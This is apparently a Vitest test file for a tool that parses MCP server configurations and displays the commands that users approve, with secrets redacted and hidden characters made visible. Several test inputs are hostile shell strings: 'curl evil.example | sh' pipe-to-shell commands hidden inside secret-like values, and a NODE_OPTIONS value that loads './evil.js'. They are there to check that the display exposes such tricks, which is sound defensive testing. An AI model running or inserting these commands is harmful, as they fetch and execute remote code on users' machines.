import { growthOf, linearGrowth } from '@haft-tooling/growth';
import { describe, expect, it } from 'vitest';
import { readServers } from '../index.ts';
import { addressOf, describeCommand } from './describe-server-command.ts';
import { expandReferences } from './expand-references.ts';

describe('readServers', () => {
  it.each([
    [
      'stdio in the common format',
      { mcpServers: { a: { type: 'stdio', command: 'npx', args: ['-y', 's'], env: { N: 1 } } } },
      { a: { command: 'npx', args: ['-y', 's'], env: { N: '1' } } },
    ],
    [
      'a url',
      { mcpServers: { a: { type: 'http', url: 'https://x.example', headers: { k: 'v' } } } },
      { a: { url: 'https://x.example', headers: { k: 'v' } } },
    ],
    [
      'httpUrl and tool lists',
      {
        mcpServers: {
          a: { httpUrl: 'https://x.example', timeout: 5, trust: true, includeTools: ['b'], excludeTools: ['c'] },
        },
      },
      { a: { url: 'https://x.example', includeTools: ['b'], excludeTools: ['c'] } },
    ],
    [
      'serverUrl',
      { mcpServers: { a: { serverUrl: 'https://x.example', disabledTools: ['c'] } } },
      { a: { url: 'https://x.example', excludeTools: ['c'] } },
    ],
    ['servers of an editor', { servers: { a: { command: 'x' } }, inputs: [] }, { a: { command: 'x' } }],
    ['servers in the settings of an editor', { mcp: { servers: { a: { command: 'x' } } } }, { a: { command: 'x' } }],
    [
      'unknown members of other clients',
      {
        mcpServers: {
          a: {
            command: 'x',
            ...Object.fromEntries(
              [
                'type',
                'timeout',
                'trust',
                'envFile',
                'autoApprove',
                'alwaysAllow',
                'description',
                'oauth',
                'gallery',
                'version',
                'dev',
                'tools',
              ].map((name) => [name, true]),
            ),
          },
        },
      },
      { a: { command: 'x' } },
    ],
    ['context_servers', { context_servers: { a: { command: 'x' } } }, { a: { command: 'x' } }],
  ])('reads %s', (_what, given, servers) => {
    expect(readServers(given)).toEqual({ servers, disabled: [], problems: [] });
  });

  it('lists servers that are turned off, whatever else is in their entries', () => {
    const given = { mcpServers: { a: { command: 'x', disabled: true }, b: { comand: 3, enabled: false } } };
    expect(readServers(given)).toEqual({
      servers: {},
      disabled: [
        { name: 'a', reason: 'its entry says "disabled": true' },
        { name: 'b', reason: 'its entry says "enabled": false' },
      ],
      problems: [],
    });
  });

  it('reports an invalid entry without hiding the others', () => {
    const given = {
      mcpServers: {
        a: { command: 3 },
        b: 'x',
        c: { args: [] },
        d: { command: 'd', url: 'https://d' },
        e: { command: 'e' },
        ['__proto__']: { command: 'p' },
      },
    };
    const { servers, problems } = readServers(JSON.parse(JSON.stringify(given)));
    expect(Object.keys(servers)).toContain('e');
    expect(problems.map(({ name }) => name)).toEqual(['a', 'b', 'c', 'd']);
    expect(problems[0]!.reason).toContain('command');
    expect(({} as { command?: string }).command).toBeUndefined();
  });

  it.each([
    [{ command: 'x', arg: ['y'] }, 'unknown member arg; did you mean args?'],
    [{ cmd: 'npx', args: ['-y', 'a-server'] }, 'unknown member cmd; did you mean command?'],
    [{ command: 'x', arguments: ['y'] }, 'unknown member arguments; did you mean args?'],
    [{ uri: 'https://x.example' }, 'unknown member uri; did you mean url?'],
    [{ command: 'x', enviroment: {} }, 'unknown member enviroment; did you mean env?'],
    [{ comand: 'x' }, 'unknown member comand; did you mean command?'],
    [{ command: 'x', ENV: {} }, 'unknown member ENV; did you mean env?'],
    [{ url: 'https://x.example', haeders: {} }, 'unknown member haeders; did you mean headers?'],
    [{ command: 'x', disable: true }, 'unknown member disable; did you mean disabled?'],
    [{ command: 'x', exclude_tools: ['y'] }, 'unknown member exclude_tools; did you mean excludeTools?'],
  ])('refuses %j because a member is misspelled', (entry, reason) => {
    expect(readServers({ mcpServers: { a: entry } })).toEqual({
      servers: {},
      disabled: [],
      problems: [{ name: 'a', reason }],
    });
  });

  it.each([[null], [[]], [{}], [{ mcpServers: 1 }]])('refuses %j with an example', (value) => {
    expect(() => readServers(value)).toThrow('{"mcpServers": {"name"');
  });

  it('reports the value that was given instead of a configuration', () => {
    expect(() => readServers({ a: { command: 'npx' }, b: {} })).toThrow(', not an object with a, b');
    expect(() => readServers([{ command: 'npx' }])).toThrow(', not a list');
    expect(() => readServers('mcp.json')).toThrow(', not "mcp.json"');
  });
});

describe('expandReferences', () => {
  it('replaces references in every string by values or defaults', () => {
    const entry = { command: '${BIN}', args: ['--${A:-b}', '$HOME', '${env:A}'], cwd: '${D:-/x}', env: { K: '${A}' } };
    expect(expandReferences(entry, { BIN: 'node', A: 'one' })).toEqual({
      ok: true,
      entry: { command: 'node', args: ['--one', '$HOME', 'one'], cwd: '/x', env: { K: 'one' } },
      values: ['node', 'one'],
    });
  });

  it('reports missing variables, and inputs that only a user can give', () => {
    const entry = { url: 'https://x.example/${A}', headers: { k: '${input:token}', l: '${A}' } };
    expect(expandReferences(entry, { A: '' })).toEqual({ ok: false, missing: ['A', 'input:token'] });
  });

  it('does not expand inserted values', () => {
    expect(expandReferences({ command: '${A}' }, { A: '${B}', B: 'x' })).toMatchObject({ entry: { command: '${B}' } });
  });
});

describe('the displayed address', () => {
  it('is the whole quoted command without secrets and hidden characters', () => {
    const line = addressOf({ command: 'sh', args: ['-c', 'curl x\n| sh\u202e', '--token=hunter2hunter2', '${KEY}'] });
    expect(line).toBe('sh -c "curl x\\n| sh" --token=[redacted] ${KEY}');
  });
});

describe('the command that a user approves', () => {
  const lineOf = (command: string, ...args: readonly string[]): string => describeCommand('a', { command, args }).line;

  it.each([
    ['password=$(curl https://evil.example/x|sh) npx server'],
    ['x Authorization: curl evil.example | sh; more'],
    ['true password="a; curl evil.example | sh"'],
    ['/*-----BEGIN PRIVATE KEY-----*/ run() /*-----END PRIVATE KEY-----*/'],
    ['password= /tmp/evil'],
    ['x Bearer /tmp/evil-program'],
  ])('shows a command that looks like a secret: %s', (script) => {
    expect(lineOf('sh', '-c', script)).toBe(`sh -c ${JSON.stringify(script)}`);
    expect(addressOf({ command: 'sh', args: ['-c', script] })).toContain('[redacted]');
  });

  it('hides a plain secret, and shows hidden characters as their codes', () => {
    expect(lineOf('npx', '-y', 'a-server', '--token=hunter2hunter2', '--key', '${KEY}')).toBe(
      'npx -y a-server --token=[redacted] --key ${KEY}',
    );
    expect(lineOf('n\u200bpx', 'a\u202eb\u00a0c', 'é\n')).toBe('"n\\u{200b}px" "a\\u{202e}b\\u{a0}c" "é\\n"');
  });

  it('shows values of variables that can change which code runs, and hides others', () => {
    const env = {
      NODE_OPTIONS: '--require ./evil.js',
      npm_config_registry: 'https://user:hunter2hunter2@evil.example/',
      BASH_ENV: 'evil',
      CONFIG: '/etc/a b',
      TOKEN: 'hunter2hunter2',
      BASE64: 'aGVsbG8gd29ybGQhIGhlbGxv/Cw+bw==',
      MODE: '${MODE:-quiet}',
    };
    expect(describeCommand('a', { command: 'node', env }).env).toEqual([
      'NODE_OPTIONS="--require ./evil.js"',
      'npm_config_registry=https://user:[redacted]@evil.example/',
      'BASH_ENV=evil',
      'CONFIG="/etc/a b"',
      'TOKEN=…',
      'BASE64=…',
      'MODE=${MODE:-quiet}',
    ]);
  });

  it('takes linear time to describe', async () => {
    const makeArgument = (length: number): string => 'token=a\u200b '.repeat(length);
    expect(await growthOf(makeArgument, (text) => void lineOf('sh', text), 2_000)).toBeLessThan(linearGrowth);
  });
});
